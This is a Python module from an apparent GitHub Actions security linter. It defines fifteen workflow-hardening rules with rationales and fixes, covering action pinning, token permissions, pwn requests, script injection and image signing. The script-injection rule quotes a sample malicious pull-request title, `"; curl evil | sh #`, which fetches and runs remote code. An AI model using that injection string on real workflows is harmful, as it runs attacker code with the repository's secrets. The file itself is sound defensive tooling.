"""The CK2xxx rules: caulk's GitHub Actions workflow rules, declared once.

Each rule's documentation lives in docs/rules-workflow.md (anchor = lower-case ID). Rules that
explain a Scorecard check's score carry ``check=``; zizmor audit names are ``aliases``.
"""

from __future__ import annotations

from caulk.checks.registry import register_rule
from caulk.findings import Rule, Severity

_DOC = "docs/rules-workflow.md"

UNPINNED_ACTION = register_rule(
    Rule(
        id="CK2001",
        name="unpinned-action",
        severity=Severity.MEDIUM,
        summary="An action or reusable workflow is referenced by a mutable tag or branch",
        why=(
            "A tag or branch of an action can be moved by whoever controls the action's "
            "repository (or steals its credentials), and the next run executes the new code "
            "with this workflow's token and secrets. Only a full commit SHA is immutable; "
            "Scorecard's Pinned-Dependencies counts every unpinned `uses:`."
        ),
        fix=(
            "Pin to the full 40-character commit SHA and keep the version as a comment "
            "(`uses: actions/checkout@<sha> # v4.2.2`); `caulk fix` resolves tags to commits "
            "(the peeled commit of an annotated tag). Let Dependabot or Renovate update the pins."
        ),
        check="Pinned-Dependencies",
        phase=1,
        effort_hours=0.25,
        aliases=("unpinned-uses",),
        reference="Scorecard Pinned-Dependencies (GitHubAction); zizmor unpinned-uses",
        automatable=True,
    )
)

MISSING_TOP_PERMISSIONS = register_rule(
    Rule(
        id="CK2002",
        name="workflow-without-permissions",
        severity=Severity.MEDIUM,
        summary="The workflow has no top-level `permissions:`, so jobs get the default token",
        why=(
            "Without `permissions:` every job receives the repository's default GITHUB_TOKEN "
            "permissions, which are read-write for older repositories and organisations. A "
            "compromised step (a poisoned dependency, an injected script) can then push code, "
            "create releases or overwrite packages. Scorecard's Token-Permissions deducts for it, "
            "and scores 0 when a job of the same workflow also lacks `permissions:`."
        ),
        fix=(
            "Add `permissions: {}` (or `permissions: contents: read`) at the top of the workflow "
            "and grant each job only the scopes it needs in `jobs.<id>.permissions`."
        ),
        check="Token-Permissions",
        phase=1,
        effort_hours=0.25,
        aliases=("excessive-permissions",),
        reference="Scorecard Token-Permissions (topLevelPermissions); zizmor excessive-permissions",
        automatable=True,
    )
)

EXCESSIVE_JOB_PERMISSIONS = register_rule(
    Rule(
        id="CK2003",
        name="job-permissions-broader-than-needed",
        severity=Severity.MEDIUM,
        summary="A job is granted a write permission that none of its steps appears to use",
        why=(
            "Every step of a job, including third-party actions and the tools they download, "
            "can use the job's GITHUB_TOKEN. A `contents: write`, `packages: write` or "
            "`id-token: write` that the job does not need turns any compromised step into a "
            "way to push commits, overwrite images or mint cloud credentials."
        ),
        fix=(
            "Remove the scope (or set it to `read`) in `jobs.<id>.permissions`; if a later step "
            "really needs it, move that step to its own job with the permission."
        ),
        check=None,
        phase=1,
        effort_hours=0.5,
        aliases=("excessive-permissions",),
        reference="zizmor excessive-permissions; GitHub 'Automatic token authentication'",
        automatable=True,
    )
)

UNTRUSTED_CHECKOUT = register_rule(
    Rule(
        id="CK2004",
        name="untrusted-checkout",
        severity=Severity.CRITICAL,
        summary="A pull_request_target/workflow_run workflow checks out the pull request's code",
        why=(
            "`pull_request_target` and `workflow_run` run with the base repository's secrets "
            "and a write token. Checking out the pull request's head and building or testing it "
            "runs the attacker's code with those privileges (a 'pwn request'). Scorecard's "
            "Dangerous-Workflow scores 0 for it."
        ),
        fix=(
            "Use the `pull_request` trigger for building untrusted code; if privileged work is "
            "needed, split it into a `workflow_run` job that only consumes artifacts and never "
            "checks out or executes the pull request's code."
        ),
        check="Dangerous-Workflow",
        phase=1,
        effort_hours=1.0,
        aliases=("dangerous-triggers",),
        reference="Scorecard Dangerous-Workflow (hasDangerousWorkflowUntrustedCheckout)",
    )
)

SCRIPT_INJECTION = register_rule(
    Rule(
        id="CK2005",
        name="script-injection",
        severity=Severity.HIGH,
        summary="An attacker-controlled `${{ … }}` expression is expanded into a script",
        why=(
            "GitHub substitutes `${{ … }}` into the script text before the shell runs, so a "
            "pull request title, issue body, branch name or commit message containing "
            "`\"; curl evil | sh #` becomes code running with the job's token and secrets. "
            "Scorecard's Dangerous-Workflow scores 0 for it in a `run:` step."
        ),
        fix=(
            "Pass the value through an environment variable and quote it in the script: "
            '`env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`; in '
            "`actions/github-script`, read `context.payload` instead of expanding the expression. "
            "`caulk fix` does this for bash/sh and pwsh `run:` scripts."
        ),
        check="Dangerous-Workflow",
        phase=1,
        effort_hours=0.5,
        aliases=("template-injection",),
        reference=(
            "Scorecard Dangerous-Workflow (hasDangerousWorkflowScriptInjection); "
            "zizmor template-injection"
        ),
        automatable=True,
    )
)

PERSISTED_CREDENTIALS = register_rule(
    Rule(
        id="CK2006",
        name="checkout-persists-credentials",
        severity=Severity.MEDIUM,
        summary="actions/checkout leaves the token in .git/config (persist-credentials not false)",
        why=(
            "By default actions/checkout writes the GITHUB_TOKEN into `.git/config`, where every "
            "later step can read it, and where an `actions/upload-artifact` of the workspace "
            "publishes it to anyone who can download the run's artifacts."
        ),
        fix=(
            "Add `with: persist-credentials: false` to the checkout step (and authenticate a "
            "later `git push` explicitly)."
        ),
        check=None,
        phase=1,
        effort_hours=0.1,
        aliases=("artipacked",),
        reference="zizmor artipacked",
        automatable=True,
    )
)

IMAGE_WITHOUT_ATTESTATIONS = register_rule(
    Rule(
        id="CK2007",
        name="image-publish-without-sbom-provenance",
        severity=Severity.MEDIUM,
        summary=(
            "docker/build-push-action pushes an image without `sbom: true` and "
            "`provenance: mode=max`"
        ),
        why=(
            "BuildKit can attach an SPDX SBOM and a SLSA provenance attestation to the image it "
            "pushes. Without them consumers cannot see what is inside the image or how it was "
            "built; the default `provenance` is `mode=min`, which leaves out the build inputs."
        ),
        fix="Set `sbom: true` and `provenance: mode=max` in the build-push step's `with:`.",
        check=None,
        phase=2,
        effort_hours=0.25,
        reference="docker/build-push-action inputs; SLSA provenance",
        automatable=True,
    )
)

SILENT_SIGNING_FAILURE = register_rule(
    Rule(
        id="CK2008",
        name="signing-can-fail-silently",
        severity=Severity.HIGH,
        summary="`cosign sign` runs in a loop or pipeline of a script without `set -euo pipefail`",
        why=(
            "Inside a pipeline only the last command's status counts, and a failure inside a "
            "loop does not stop the script without `set -e`. A `cosign sign` that fails there "
            "leaves the image unsigned while the job stays green, and nobody notices until a "
            "consumer's verification fails."
        ),
        fix=(
            "Start the script with `set -euo pipefail` (or use `shell: bash`, which GitHub runs "
            "with `-eo pipefail`)."
        ),
        check=None,
        phase=2,
        effort_hours=0.1,
        reference="bash manual: set -e, pipefail; GitHub Actions default shells",
        automatable=True,
    )
)

DOCKERHUB_REFERRERS = register_rule(
    Rule(
        id="CK2009",
        name="attestation-push-to-docker-hub",
        severity=Severity.HIGH,
        summary="actions/attest* pushes the attestation to Docker Hub, which rejects it",
        why=(
            "`push-to-registry: true` stores the attestation as an OCI referrer of the image. "
            "Docker Hub does not accept that push, so the step fails (or, with "
            "`continue-on-error`, the image ships without the attestation)."
        ),
        fix=(
            "Publish the image (or a copy) to a registry that supports referrers, such as "
            "ghcr.io, or drop `push-to-registry` and rely on GitHub's attestation store."
        ),
        check=None,
        phase=2,
        effort_hours=0.5,
        reference="actions/attest-build-provenance push-to-registry",
        automatable=True,
    )
)

MUTABLE_TAGS_ON_PUSH = register_rule(
    Rule(
        id="CK2010",
        name="tag-collides-with-immutability",
        severity=Severity.MEDIUM,
        summary="Every branch push re-publishes the same image tag",
        why=(
            "A constant tag (`type=raw,value=edge`, a fixed `tags:` value) or an unrestricted "
            "`type=sha` tag is pushed again by every run of a branch-push workflow. With tag "
            "immutability enabled in the registry (as hardening guides recommend) the push "
            "fails; without it, the tag silently moves to a different digest."
        ),
        fix=(
            "Generate unique tags on branch pushes (`type=sha` with an `enable=` condition, "
            "`type=semver` on tag pushes) and gate moving tags such as `latest` with "
            "`enable={{is_default_branch}}`, or exclude them from immutability rules."
        ),
        check=None,
        phase=2,
        effort_hours=0.5,
        reference="docker/metadata-action tags; registry tag immutability",
    )
)

NO_SCHEDULED_REBUILD = register_rule(
    Rule(
        id="CK2011",
        name="no-scheduled-rebuild",
        severity=Severity.LOW,
        summary="Images are published but no workflow rebuilds them on a schedule",
        why=(
            "Base images and OS packages receive security fixes every week. An image that is "
            "only rebuilt when its own code changes keeps shipping the vulnerabilities that "
            "were fixed upstream long ago."
        ),
        fix=(
            "Add `on: schedule: - cron: '0 4 * * 1'` to the publish workflow (or a dedicated "
            "rebuild workflow)."
        ),
        check=None,
        phase=1,
        effort_hours=0.25,
        reference="caulk",
        automatable=True,
    )
)

NO_SCORECARD_WORKFLOW = register_rule(
    Rule(
        id="CK2012",
        name="no-scorecard-workflow",
        severity=Severity.LOW,
        summary="No workflow runs ossf/scorecard-action",
        why=(
            "The Scorecard action publishes the repository's score, uploads its findings to "
            "code scanning and lets the score badge and the OpenSSF API reflect the current "
            "state, so regressions are visible."
        ),
        fix=(
            "Add the Scorecard workflow (`caulk fix` can generate it) with "
            "`ossf/scorecard-action` pinned by SHA."
        ),
        check=None,
        phase=2,
        effort_hours=0.25,
        reference="ossf/scorecard-action",
        automatable=True,
    )
)

UNPARSABLE_WORKFLOW = register_rule(
    Rule(
        id="CK2013",
        name="workflow-parse-error",
        severity=Severity.MEDIUM,
        summary="A workflow file is not valid YAML",
        why=(
            "GitHub refuses to run the workflow, and Scorecard cannot read it: "
            "Dangerous-Workflow, Token-Permissions, Pinned-Dependencies, SAST and Packaging all "
            "become runtime errors, which removes them from the aggregate score."
        ),
        fix=(
            "Fix the YAML syntax at the reported line (`actionlint` and `zizmor` show the same "
            "error)."
        ),
        check=None,
        phase=1,
        effort_hours=0.1,
        reference="Scorecard: an actionlint error with a nil workflow is a runtime error",
    )
)

TOP_WRITE_PERMISSIONS = register_rule(
    Rule(
        id="CK2014",
        name="top-level-write-permissions",
        severity=Severity.HIGH,
        summary="The workflow grants write permissions to every job at the top level",
        why=(
            "Top-level `permissions:` apply to every job that does not declare its own. "
            "`write-all`, or write access to contents, packages, actions, deployments, "
            "security-events, checks or statuses, hands that power to every step of every job. "
            "Scorecard's Token-Permissions deducts for each (10 points for contents, packages "
            "and actions)."
        ),
        fix=(
            "Set the top level to `permissions: contents: read` (or `{}`) and grant the write "
            "scope only in the job that needs it."
        ),
        check="Token-Permissions",
        phase=1,
        effort_hours=0.25,
        aliases=("excessive-permissions",),
        reference="Scorecard Token-Permissions (topLevelPermissions)",
        automatable=True,
    )
)

NO_SAST = register_rule(
    Rule(
        id="CK2015",
        name="no-sast-tool",
        severity=Severity.LOW,
        summary="No workflow runs a SAST tool Scorecard recognises",
        why=(
            "Static analysis on every change catches injection bugs and unsafe APIs before "
            "release. Scorecard's SAST check looks for CodeQL, Snyk, Pysa, Qodana, hadolint or "
            "a SonarQube/SonarCloud configuration and scores 0 without one."
        ),
        fix=(
            "Add a CodeQL workflow (`github/codeql-action/analyze`) or, for an image "
            "repository, `hadolint/hadolint-action`, pinned by SHA. `caulk fix` generates "
            ".github/workflows/lint.yml running hadolint on the image's Dockerfile."
        ),
        check="SAST",
        # Lint in CI belongs to the first hardening phase.
        phase=1,
        effort_hours=0.5,
        reference="Scorecard SAST (sastToolConfigured)",
        automatable=True,
    )
)

RULES = (
    UNPINNED_ACTION,
    MISSING_TOP_PERMISSIONS,
    EXCESSIVE_JOB_PERMISSIONS,
    UNTRUSTED_CHECKOUT,
    SCRIPT_INJECTION,
    PERSISTED_CREDENTIALS,
    IMAGE_WITHOUT_ATTESTATIONS,
    SILENT_SIGNING_FAILURE,
    DOCKERHUB_REFERRERS,
    MUTABLE_TAGS_ON_PUSH,
    NO_SCHEDULED_REBUILD,
    NO_SCORECARD_WORKFLOW,
    UNPARSABLE_WORKFLOW,
    TOP_WRITE_PERMISSIONS,
    NO_SAST,
)
"""Every CK2xxx rule, in ID order."""
